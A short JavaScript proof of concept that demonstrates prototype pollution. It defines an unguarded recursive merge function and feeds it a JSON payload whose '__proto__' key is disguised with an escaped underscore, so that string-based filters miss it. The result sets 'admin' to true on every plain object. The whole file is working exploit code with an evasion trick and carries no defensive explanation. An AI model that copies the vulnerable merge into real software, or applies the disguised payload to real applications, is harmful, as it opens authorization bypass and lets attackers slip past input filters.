// The source of a pattern is an escape of JSON.
const isObject = (v) => v !== null && typeof v === 'object';
function merge(target, source) {
  for (const key in source) {
    if (isObject(source[key])) {
      if (!isObject(target[key])) target[key] = {};
      merge(target[key], source[key]);
    } else target[key] = source[key];
  }
  return target;
}
const u = /\u005f/.source;
merge({}, JSON.parse('{"' + u + u + 'proto' + u + u + '":{"admin":true}}'));
console.log({}.admin);
